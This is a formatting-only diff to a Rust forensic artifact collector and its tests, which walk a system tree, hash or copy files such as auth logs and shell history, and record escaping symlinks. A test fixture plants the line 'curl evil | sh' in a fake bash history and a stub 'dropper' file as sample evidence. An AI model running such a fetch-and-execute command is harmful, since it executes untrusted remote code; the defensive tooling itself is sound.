@@ -190,7 +190,13 @@ fn user_homes(root: BorrowedFd<'_>, errors: &mut Vec<String>) -> Vec<Vec<Vec<u8>
 }
 
 impl Walker<'_> {
-    fn pattern(&mut self, root: BorrowedFd<'_>, a: &Artifact, p: &PathPattern, start: Vec<Vec<u8>>) {
+    fn pattern(
+        &mut self,
+        root: BorrowedFd<'_>,
+        a: &Artifact,
+        p: &PathPattern,
+        start: Vec<Vec<u8>>,
+    ) {
         let mut full = start;
         full.extend(p.components.iter().cloned());
         // The literal prefix is opened as the root resolves it; the last component is always
@@ -240,10 +246,7 @@ impl Walker<'_> {
         }
         let names = if glob::has_wildcard(comp) {
             match walk::list_dir(here.dir) {
-                Ok(all) => all
-                    .into_iter()
-                    .filter(|n| glob::matches(comp, n))
-                    .collect(),
+                Ok(all) => all.into_iter().filter(|n| glob::matches(comp, n)).collect(),
                 Err(e) => {
                     self.errors.push(format!(
                         "{}: cannot list: {e}",
@@ -296,8 +299,10 @@ impl Walker<'_> {
             Ok(st) => st,
             Err(e) if is_not_found(&e) => return,
             Err(e) => {
-                self.errors
-                    .push(format!("{}: cannot stat: {e}", String::from_utf8_lossy(&path)));
+                self.errors.push(format!(
+                    "{}: cannot stat: {e}",
+                    String::from_utf8_lossy(&path)
+                ));
                 return;
             }
         };
@@ -339,8 +344,10 @@ impl Walker<'_> {
         let sub = match walk::open_dir_at(here.dir, name) {
             Ok(fd) => fd,
             Err(e) => {
-                self.errors
-                    .push(format!("{}: cannot open: {e}", String::from_utf8_lossy(path)));
+                self.errors.push(format!(
+                    "{}: cannot open: {e}",
+                    String::from_utf8_lossy(path)
+                ));
                 return;
             }
         };
@@ -575,7 +582,11 @@ mod tests {
         std::fs::create_dir_all(r.join("etc")).unwrap();
         std::fs::create_dir_all(r.join("home/alice")).unwrap();
         std::fs::create_dir_all(r.join("tmp")).unwrap();
-        std::fs::write(r.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n").unwrap();
+        std::fs::write(
+            r.join("etc/passwd"),
+            "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n",
+        )
+        .unwrap();
         std::fs::write(r.join("home/alice/.bash_history"), b"curl evil | sh\n").unwrap();
         std::fs::write(r.join("var/log/auth.log"), b"sshd: accepted\n").unwrap();
         std::fs::write(r.join("var/log/sub/big.log"), vec![b'x'; 2000]).unwrap();
@@ -585,7 +596,8 @@ mod tests {
         nix::unistd::mkfifo(&r.join("var/log/pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
         std::fs::write(r.join("tmp/dropper"), b"ELF").unwrap();
         std::fs::write(
-            r.join("var/log").join(std::ffi::OsStr::from_bytes(b"caf\xe9.log")),
+            r.join("var/log")
+                .join(std::ffi::OsStr::from_bytes(b"caf\xe9.log")),
             b"latin1",
         )
         .unwrap();
@@ -612,9 +624,17 @@ action = "hash"
             .iter()
             .map(|f| String::from_utf8_lossy(&f.path).into_owned())
             .collect();
-        assert!(copied.contains(&"/var/log/auth.log".to_string()), "{copied:?}");
-        assert!(copied.contains(&"/home/alice/.bash_history".to_string()), "{copied:?}");
-        assert!(!copied.iter().any(|c| c.contains("escape") || c.contains("pipe") || c.contains("dropper")));
+        assert!(
+            copied.contains(&"/var/log/auth.log".to_string()),
+            "{copied:?}"
+        );
+        assert!(
+            copied.contains(&"/home/alice/.bash_history".to_string()),
+            "{copied:?}"
+        );
+        assert!(!copied
+            .iter()
+            .any(|c| c.contains("escape") || c.contains("pipe") || c.contains("dropper")));
         assert_eq!(entry(&t, "/var/log/escape")["action"], "link_recorded");
         assert_eq!(
             entry(&t, "/var/log/escape")["link_target"],
@@ -622,21 +642,39 @@ action = "hash"
         );
         assert_eq!(entry(&t, "/var/log/escape-dir")["action"], "link_recorded");
         assert_eq!(entry(&t, "/var/log/pipe")["action"], "skipped");
-        assert_eq!(entry(&t, "/var/log/sub/big.log")["action"], "skipped_oversize");
+        assert_eq!(
+            entry(&t, "/var/log/sub/big.log")["action"],
+            "skipped_oversize"
+        );
         assert_eq!(entry(&t, "/tmp/dropper")["action"], "listed");
         assert_eq!(entry(&t, "/etc/passwd")["action"], "hashed");
         let non_utf8 = entry(&t, "/var/log/caf\u{fffd}.log");
-        assert_eq!(non_utf8["path_bytes_hex"], hex::encode(b"/var/log/caf\xe9.log"));
+        assert_eq!(
+            non_utf8["path_bytes_hex"],
+            hex::encode(b"/var/log/caf\xe9.log")
+        );
         assert!(!t.index.to_string().contains("old.gz"), "excluded");
         // The bodyfile covers listed entries too, with escaped names.
         let body = String::from_utf8(t.bodyfile.clone()).unwrap();
         assert!(body.contains("|/tmp/dropper|"), "{body}");
         assert!(body.contains("|/var/log/caf\\xe9.log|"), "{body}");
-        assert!(body.contains(&format!("|/var/log/escape -> {}|", outside.path().join("secret").display())));
+        assert!(body.contains(&format!(
+            "|/var/log/escape -> {}|",
+            outside.path().join("secret").display()
+        )));
         // Re-opening a planned file gives its bytes.
-        let f = t.files.iter().find(|f| f.path == b"/var/log/auth.log").unwrap();
+        let f = t
+            .files
+            .iter()
+            .find(|f| f.path == b"/var/log/auth.log")
+            .unwrap();
         let mut s = String::new();
-        f.open().unwrap().reader().unwrap().read_to_string(&mut s).unwrap();
+        f.open()
+            .unwrap()
+            .reader()
+            .unwrap()
+            .read_to_string(&mut s)
+            .unwrap();
         assert_eq!(s, "sshd: accepted\n");
     }
 
@@ -662,7 +700,11 @@ action = "hash"
         let p = profile("name = \"t\"\nmax_entries = 3\n[[artifact]]\npaths = [\"/\"]\n");
         let t = run(&p, root.path()).unwrap();
         assert_eq!(t.bodyfile_lines, 3);
-        assert!(t.errors.iter().any(|e| e.contains("max_entries")), "{:?}", t.errors);
+        assert!(
+            t.errors.iter().any(|e| e.contains("max_entries")),
+            "{:?}",
+            t.errors
+        );
     }
 
     #[test]
@@ -671,7 +713,10 @@ action = "hash"
         assert!(e.contains("/proc/"), "{e}");
         let e = resolve_root(Path::new("/"), None, Some("abc")).unwrap_err();
         assert!(e.contains("12 hex"), "{e}");
-        assert_eq!(resolve_root(Path::new("/"), None, None).unwrap(), PathBuf::from("/"));
+        assert_eq!(
+            resolve_root(Path::new("/"), None, None).unwrap(),
+            PathBuf::from("/")
+        );
     }
 
     use std::os::unix::ffi::OsStrExt;
